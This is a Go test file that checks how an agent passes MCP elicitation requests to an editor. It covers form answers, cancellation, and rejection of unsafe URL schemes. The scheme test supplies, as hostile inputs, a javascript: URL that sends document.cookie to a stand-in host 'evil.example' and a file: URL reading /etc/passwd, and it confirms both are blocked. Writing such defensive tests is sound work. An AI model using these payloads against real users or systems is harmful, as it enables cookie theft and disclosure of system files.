package agent

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"acpd/acp"
)

// elicitingServer serves (on 127.0.0.1) an MCP server whose tool "ask"
// elicits a name and returns what it got as JSON text.
func elicitingServer(t *testing.T) acp.McpServer {
	t.Helper()
	srv := mcp.NewServer(&mcp.Implementation{Name: "asker", Version: "1"}, nil)
	srv.AddTool(&mcp.Tool{Name: "ask", InputSchema: json.RawMessage(`{"type":"object"}`)},
		func(ctx context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			res, err := req.Session.Elicit(ctx, &mcp.ElicitParams{Message: "Your name?",
				RequestedSchema: json.RawMessage(`{"type":"object","properties":{"name":{"type":"string"}},"required":["name"]}`)})
			if err != nil {
				return &mcp.CallToolResult{IsError: true, Content: []mcp.Content{&mcp.TextContent{Text: err.Error()}}}, nil
			}
			b, _ := json.Marshal(map[string]any{"action": res.Action, "content": res.Content})
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: string(b)}}}, nil
		})
	hs := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil))
	t.Cleanup(hs.Close) // registered before the client's, so it runs after the session closed
	return acp.McpServer{HTTP: &acp.McpServerHTTP{Name: "asker", URL: hs.URL, Headers: []acp.HTTPHeader{}}}
}

// An MCP server's elicitation reaches an editor that supports form
// elicitation as elicitation/create, and its answer reaches the tool; an
// editor without that support is not asked and the server gets "decline".
func TestMCPElicitation(t *testing.T) {
	name := "Ada"
	tests := []struct {
		name   string
		caps   *acp.ClientCapabilities
		answer acp.CreateElicitationResponse
		want   string
		asked  bool
		// unsupported: the server's request failed (want is part of its error).
		unsupported bool
	}{
		{name: "accept", caps: &acp.ClientCapabilities{Elicitation: &acp.ElicitationCapabilities{Form: &acp.ElicitationFormCapabilities{}}},
			answer: acp.CreateElicitationResponse{Accept: &acp.ElicitationAcceptAction{Content: map[string]acp.ElicitationContentValue{"name": {String: &name}}}},
			want:   `{"action":"accept","content":{"name":"Ada"}}`, asked: true},
		{name: "decline", caps: &acp.ClientCapabilities{Elicitation: &acp.ElicitationCapabilities{Form: &acp.ElicitationFormCapabilities{}}},
			answer: acp.CreateElicitationResponse{Decline: &acp.CreateElicitationResponseDecline{}},
			want:   `{"action":"decline","content":null}`, asked: true},
		{name: "cancel", caps: &acp.ClientCapabilities{Elicitation: &acp.ElicitationCapabilities{Form: &acp.ElicitationFormCapabilities{}}},
			answer: acp.CreateElicitationResponse{Cancel: &acp.CreateElicitationResponseCancel{}},
			want:   `{"action":"cancel","content":null}`, asked: true},
		// Servers are told the client elicits only in the modes the editor
		// shows: their form requests fail on their side.
		{name: "url only", caps: &acp.ClientCapabilities{Elicitation: &acp.ElicitationCapabilities{URL: &acp.ElicitationURLCapabilities{}}},
			want: "form", unsupported: true},
		{name: "unsupported", want: "elicitation", unsupported: true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			env := newEnv(t, "")
			mcpSrv := elicitingServer(t)
			rec := record(toolSeq(toolCallReq{"mcp__asker__ask", map[string]any{}}))
			env.setModel(mainModel, rec)
			c := env.start(tc.caps)
			c.setPerm(choose(acp.PermissionOptionKindAllowOnce))
			var mu sync.Mutex
			var got []acp.CreateElicitationRequest
			c.mu.Lock()
			c.elicit = func(ctx context.Context, req acp.CreateElicitationRequest) (any, error) {
				mu.Lock()
				got = append(got, req)
				mu.Unlock()
				return tc.answer, nil
			}
			c.mu.Unlock()
			var resp acp.NewSessionResponse
			if err := c.call(acp.AgentMethodSessionNew, acp.NewSessionRequest{Cwd: env.cwd, McpServers: []acp.McpServer{mcpSrv}}, &resp); err != nil {
				t.Fatalf("session/new: %v", err)
			}
			c.mustPrompt(resp.SessionID, "ask me", acp.StopReasonEndTurn)

			res := toolResults(rec.last(t))
			switch {
			case tc.unsupported:
				if len(res) != 1 || !res[0].IsError || !strings.Contains(resultText(res[0]), tc.want) {
					t.Fatalf("tool result = %+v, want the server's error about %s", res, tc.want)
				}
			case len(res) != 1 || res[0].IsError || resultText(res[0]) != tc.want:
				t.Fatalf("tool result = %+v, want %s", res, tc.want)
			}
			mu.Lock()
			defer mu.Unlock()
			if !tc.asked {
				if len(got) != 0 {
					t.Fatalf("editor without form elicitation was asked: %+v", got)
				}
				return
			}
			if len(got) != 1 {
				t.Fatalf("editor got %d elicitation requests, want 1", len(got))
			}
			r := got[0]
			if !strings.Contains(r.Message, "Your name?") || r.Form == nil || r.Form.Session == nil || r.Form.Session.SessionID != resp.SessionID {
				t.Fatalf("request = %+v", r)
			}
			p, ok := r.Form.RequestedSchema.Properties["name"]
			if !ok || p.String == nil || len(r.Form.RequestedSchema.Required) != 1 || r.Form.RequestedSchema.Required[0] != "name" {
				t.Errorf("requested schema = %+v", r.Form.RequestedSchema)
			}
		})
	}
}

// session/cancel while the editor shows the form ends the elicitation with
// "cancel" and the turn with "cancelled".
func TestMCPElicitationCancelled(t *testing.T) {
	env := newEnv(t, "")
	mcpSrv := elicitingServer(t)
	env.setModel(mainModel, toolSeq(toolCallReq{"mcp__asker__ask", map[string]any{}}))
	c := env.start(&acp.ClientCapabilities{Elicitation: &acp.ElicitationCapabilities{Form: &acp.ElicitationFormCapabilities{}}})
	c.setPerm(choose(acp.PermissionOptionKindAllowOnce))
	asked := make(chan struct{}, 1)
	c.mu.Lock()
	c.elicit = func(ctx context.Context, req acp.CreateElicitationRequest) (any, error) {
		asked <- struct{}{}
		<-ctx.Done() // the editor never answers; the agent withdraws the request
		return nil, ctx.Err()
	}
	c.mu.Unlock()
	var resp acp.NewSessionResponse
	if err := c.call(acp.AgentMethodSessionNew, acp.NewSessionRequest{Cwd: env.cwd, McpServers: []acp.McpServer{mcpSrv}}, &resp); err != nil {
		t.Fatalf("session/new: %v", err)
	}
	done := c.promptAsync(resp.SessionID, "ask me")
	await(t, "elicitation/create", asked)
	c.notify(acp.AgentMethodSessionCancel, acp.CancelNotification{SessionID: resp.SessionID})
	r := await(t, "prompt reply", done)
	if r.err != nil || r.stop != acp.StopReasonCancelled {
		t.Fatalf("prompt = %+v, want stop reason cancelled", r)
	}
}

// TestMCPElicitationURLScheme: an MCP server's URL elicitation reaches the
// editor only for an https: URL; a javascript: or file: URL is declined to
// the server with the reason, and the editor never sees it.
func TestMCPElicitationURLScheme(t *testing.T) {
	srv := mcp.NewServer(&mcp.Implementation{Name: "linker", Version: "1"}, nil)
	srv.AddTool(&mcp.Tool{Name: "open", InputSchema: json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"}}}`)},
		func(ctx context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			var in struct{ URL string }
			_ = json.Unmarshal(req.Params.Arguments, &in)
			res, err := req.Session.Elicit(ctx, &mcp.ElicitParams{Mode: "url", Message: "Sign in", URL: in.URL, ElicitationID: "e-" + in.URL[:4]})
			if err != nil {
				return &mcp.CallToolResult{IsError: true, Content: []mcp.Content{&mcp.TextContent{Text: err.Error()}}}, nil
			}
			b, _ := json.Marshal(map[string]any{"action": res.Action, "meta": res.Meta})
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: string(b)}}}, nil
		})
	hs := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil))
	t.Cleanup(hs.Close)
	mcpSrv := acp.McpServer{HTTP: &acp.McpServerHTTP{Name: "linker", URL: hs.URL, Headers: []acp.HTTPHeader{}}}

	env := newEnv(t, "")
	rec := record(toolSeq(
		toolCallReq{"mcp__linker__open", map[string]any{"url": "javascript:fetch('//evil.example/'+document.cookie)"}},
		toolCallReq{"mcp__linker__open", map[string]any{"url": "file:///etc/passwd"}},
		toolCallReq{"mcp__linker__open", map[string]any{"url": "https://auth.example/authorize"}},
	))
	env.setModel(mainModel, rec)
	c := env.start(&acp.ClientCapabilities{Elicitation: &acp.ElicitationCapabilities{URL: &acp.ElicitationURLCapabilities{}}})
	c.setPerm(choose(acp.PermissionOptionKindAllowOnce))
	var mu sync.Mutex
	var got []string
	c.mu.Lock()
	c.elicit = func(ctx context.Context, req acp.CreateElicitationRequest) (any, error) {
		mu.Lock()
		defer mu.Unlock()
		if req.URL != nil {
			got = append(got, req.URL.URL)
		}
		return acp.CreateElicitationResponse{Accept: &acp.ElicitationAcceptAction{}}, nil
	}
	c.mu.Unlock()
	var resp acp.NewSessionResponse
	if err := c.call(acp.AgentMethodSessionNew, acp.NewSessionRequest{Cwd: env.cwd, McpServers: []acp.McpServer{mcpSrv}}, &resp); err != nil {
		t.Fatalf("session/new: %v", err)
	}
	c.mustPrompt(resp.SessionID, "open them", acp.StopReasonEndTurn)
	var texts []string
	for _, req := range rec.requests() {
		for _, r := range toolResults(req) {
			texts = append(texts, resultText(r))
		}
	}
	all := strings.Join(texts, "\n")
	for _, want := range []string{`scheme \"javascript:\" is not allowed`, `scheme \"file:\" is not allowed`, `"action":"accept"`} {
		if !strings.Contains(all, want) {
			t.Errorf("tool results lack %s:\n%s", want, all)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(got) != 1 || got[0] != "https://auth.example/authorize" {
		t.Fatalf("the editor was shown %q, want only the https URL", got)
	}
}
